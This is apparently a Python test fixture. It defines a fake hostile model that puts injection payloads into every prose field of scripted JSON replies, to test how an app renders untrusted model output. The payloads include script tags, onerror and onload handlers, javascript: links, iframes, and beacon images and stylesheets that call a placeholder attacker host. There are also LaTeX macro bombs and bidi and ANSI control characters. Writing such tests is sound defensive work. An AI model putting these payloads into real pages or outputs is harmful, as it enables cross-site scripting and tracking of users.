"""A model that wants to run scripts, call home and draw over the page, wherever it may write."""

import json
from itertools import cycle
from threading import Lock

from agents.scripted import Request, scripted

HOME = "http://198.51.100.7"  # a test network's address: nothing is there

ATTACKS = (
    f"<script>window.pwned=1;fetch('{HOME}/s')</script>",
    f"<img src='{HOME}/i.png' onerror='window.pwned=1'>",
    f"![beacon]({HOME}/b.png)",
    f"[click](javascript:window.pwned=1) and [home]({HOME}/l)",
    f"see {HOME}/auto or www.example.com or someone@example.com",
    f"<iframe src='{HOME}/f'></iframe><svg onload='window.pwned=1'></svg>",
    f"[ref]: {HOME}/r 'x'\n\n[ref]",
    f"<{HOME}/angle> <javascript:window.pwned=1>",
    r"$\href{javascript:window.pwned=1}{x} \includegraphics{" + HOME + r"/t.png} \rule{9999em}{9999em}$",
    r"$$\def\a{\a\a}\a$$ " + "$" + "{" * 500 + "$",
    ":material/delete: :red[danger] :rainbow[x] :streamlit: :smile: :help[x] :blue-badge[y]",
    "# huge\n\n---\n\n```html\n<b>x</b>\n```\n| a | b |\n|---|---|\n| 1 | 2 |",
    f"<style>body{{background:url({HOME}/c)}}</style><link rel=stylesheet href='{HOME}/k'>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;b&#62;",
    "%{customdata} %{x:.2f}<extra></extra><a href='javascript:window.pwned=1'>x</a>",
    "\u202egnihtemos \x1b[31m \u2066x",
)


class Hostile:
    """Scripted answers with an attack in every place of prose; enums stay as the schema has them."""

    def __init__(self) -> None:
        self._attacks, self._lock = cycle(ATTACKS), Lock()

    def __call__(self, request: Request) -> str:
        return json.dumps(self._spoil(json.loads(scripted(request))))

    def _spoil(self, value: object) -> object:
        if isinstance(value, dict):
            return {name: self._spoil(item) for name, item in value.items()}
        if isinstance(value, list):
            return [self._spoil(item) for item in value]
        if isinstance(value, str) and value.startswith("Scripted"):
            with self._lock:
                return next(self._attacks)
        return value
